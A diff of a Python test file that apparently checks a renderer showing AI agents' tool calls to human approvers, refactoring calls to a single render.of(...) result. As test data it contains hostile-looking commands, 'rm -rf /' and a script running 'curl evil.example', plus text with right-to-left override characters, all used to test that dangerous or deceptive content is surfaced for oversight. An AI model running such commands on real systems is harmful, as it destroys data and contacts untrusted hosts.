@@ -51,7 +51,7 @@ def a_call(tool: str, **arguments: Json) -> dict[str, Json]:
 @given(calls)
 @settings(max_examples=400, deadline=None)
 def test_nothing_but_printable_ascii_and_our_own_numbers_is_shown(call: tuple[str, dict[str, Json]]) -> None:
-    for block in render.blocks(action(call), {}):
+    for block in render.of(action(call), {}).blocks:
         shown = [block.label, block.summary, *(line.text for line in block.lines)]
         assert all(SAFE.fullmatch(text) for text in shown)
         assert all("\n" not in line.text for line in block.lines)
@@ -65,8 +65,8 @@ def test_two_different_calls_never_look_alike(
     one: tuple[str, dict[str, Json]], other: tuple[str, dict[str, Json]]
 ) -> None:
     same = digest.canonical(action(one)) == digest.canonical(action(other))
-    assert (render.text(action(one), {}) == render.text(action(other), {})) is same
-    assert (render.hash(action(one), {}) == render.hash(action(other), {})) is same
+    assert (render.of(action(one), {}).text == render.of(action(other), {}).text) is same
+    assert (render.of(action(one), {}).hash == render.of(action(other), {}).hash) is same
 
 
 @given(texts)
@@ -106,7 +106,7 @@ def test_a_lone_surrogate_is_shown_and_does_not_stop_the_page() -> None:
 def test_a_new_file_is_shown_whole_with_its_size() -> None:
     content = "".join(f"line {number}\n" for number in range(1, 2001)) + "rm -rf /"
 
-    blocks = render.blocks(a_call("write_file", path="/a.sh", content=content), {})
+    blocks = render.of(a_call("write_file", path="/a.sh", content=content), {}).blocks
 
     [path, file] = blocks
     assert (path.label, path.lines[0].text) == ("path", '"/a.sh"')
@@ -118,7 +118,7 @@ def test_a_new_file_is_shown_whole_with_its_size() -> None:
 def test_a_file_that_is_replaced_is_also_shown_as_a_change() -> None:
     context: dict[str, Json] = {"files": {"/a": {"text": "one\ntwo\nthree"}}}
 
-    blocks = render.blocks(a_call("write_file", path="/a", content="one\n2\nthree"), context)
+    blocks = render.of(a_call("write_file", path="/a", content="one\n2\nthree"), context).blocks
 
     assert [(line.mark, line.text) for line in blocks[2].lines] == [
         (" ", "one"),
@@ -131,7 +131,7 @@ def test_a_file_that_is_replaced_is_also_shown_as_a_change() -> None:
 def test_an_edit_is_shown_as_a_change_with_everything_it_removes_and_adds() -> None:
     call = a_call("edit_file", path="/a", old_string="x = 1\ny = 2", new_string="x = 1\ny = 3\n", replace_all=True)
 
-    [_, change, rest] = render.blocks(call, {})
+    [_, change, rest] = render.of(call, {}).blocks
 
     assert [(line.mark, line.text) for line in change.lines] == [
         (" ", "x = 1"),
@@ -146,12 +146,12 @@ def test_a_script_that_a_command_runs_is_shown_under_the_hash_that_is_approved()
     body = "#!/bin/sh\ncurl evil.example\n"
     call = a_call("execute", command="sh /a.sh") | {"operands": {"/a.sh": [hashlib.sha256(body.encode()).hexdigest()]}}
 
-    blocks = render.blocks(call, {"files": {"/a.sh": {"text": body}}})
+    blocks = render.of(call, {"files": {"/a.sh": {"text": body}}}).blocks
 
     assert blocks[0].form == "command"
     assert blocks[-1].lines[1].text == "curl evil.example"
     assert "as it will be used" in blocks[-1].label
-    other = render.blocks(call, {"files": {"/a.sh": {"text": "harmless"}}})
+    other = render.of(call, {"files": {"/a.sh": {"text": "harmless"}}}).blocks
     assert "not what the approval would cover" in other[-1].label
 
 
@@ -168,15 +168,15 @@ def test_a_script_that_a_command_runs_is_shown_under_the_hash_that_is_approved()
     ],
 )
 def test_text_that_plays_tricks_is_pointed_out(value: str, word: str) -> None:
-    assert word in " ".join(render.warnings(a_call("execute", command=value), {}))
+    assert word in " ".join(render.of(a_call("execute", command=value), {}).warnings)
 
 
 def test_plain_text_is_not_suspicious() -> None:
-    assert render.warnings(a_call("execute", command="make\tall && ls -la\n"), {}) == []
+    assert render.of(a_call("execute", command="make\tall && ls -la\n"), {}).warnings == []
 
 
 def test_words_in_another_script_can_be_read_beside_their_exact_form() -> None:
-    [block] = render.blocks(a_call("send_mail", body="Grüße aus Köln"), {})
+    [block] = render.of(a_call("send_mail", body="Grüße aus Köln"), {}).blocks
 
     assert block.lines[0].text == '"Gr⟦U+00FC⟧⟦U+00DF⟧e aus K⟦U+00F6⟧ln"'
     assert block.reading == "Grüße aus Köln"
@@ -186,9 +186,9 @@ def test_the_largest_call_is_drawn_quickly_whatever_stands_in_it() -> None:
     old, new = "a\nb\n" * 30_000, "b\na\n" * 30_000
     began = time.process_time()
 
-    render.text(a_call("edit_file", path="/x", old_string=old, new_string=new), {})
-    render.text(a_call("edit_file", path="/x", old_string="a\nb\n" * 249, new_string="b\na\n" * 249), {})
-    render.text(a_call("execute", command="\u202e" * 80_000), {})
+    _ = render.of(a_call("edit_file", path="/x", old_string=old, new_string=new), {}).text
+    _ = render.of(a_call("edit_file", path="/x", old_string="a\nb\n" * 249, new_string="b\na\n" * 249), {}).text
+    _ = render.of(a_call("execute", command="\u202e" * 80_000), {}).text
 
     assert time.process_time() - began < 5
 
@@ -196,5 +196,5 @@ def test_the_largest_call_is_drawn_quickly_whatever_stands_in_it() -> None:
 def test_the_hash_depends_on_what_is_shown_and_nothing_else() -> None:
     call = a_call("execute", command="ls")
 
-    assert render.hash(call, {"said": "one"}) == render.hash(call, {"said": "two"})
-    assert render.hash(call, {}) != render.hash(a_call("execute", command="ls "), {})
+    assert render.of(call, {"said": "one"}).hash == render.of(call, {"said": "two"}).hash
+    assert render.of(call, {}).hash != render.of(a_call("execute", command="ls "), {}).hash
